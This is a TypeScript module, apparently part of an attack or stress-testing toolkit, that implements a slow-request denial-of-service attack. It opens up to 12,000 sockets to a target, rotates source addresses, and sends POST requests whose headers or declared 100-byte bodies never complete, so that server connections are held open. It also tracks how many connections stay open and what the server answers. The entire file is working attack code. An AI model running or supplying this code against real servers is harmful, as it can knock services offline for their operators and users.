import { connect } from 'node:net'
import { count, keepHighest, type Attack } from '../attack.ts'

/** Posts whose body never comes to its end, and requests whose headers do not. */
export const unfinishedRequests: Attack = ({ url, addresses }, achieved) => {
  const { hostname, port, pathname } = new URL(url)
  const headers = `POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n`
  let open = 0
  let number = 0
  const next = () => {
    if (open > 12_000) return
    open += 1
    const localAddress = addresses[(number += 1) % addresses.length]
    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
    socket.on('error', () => undefined) // its close says the same
    socket.once('close', () => (open -= 1))
    let answer = ''
    socket.on('data', (data) => {
      if (answer === '') count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`)
      answer += data.toString('latin1')
    })
    socket.write(number % 10 === 0 ? headers : `${headers}Content-Length: 100\r\n\r\n[`)
    keepHighest(achieved, 'open at once', open)
  }
  setInterval(() => Array.from({ length: 6 }, next), 20)
}
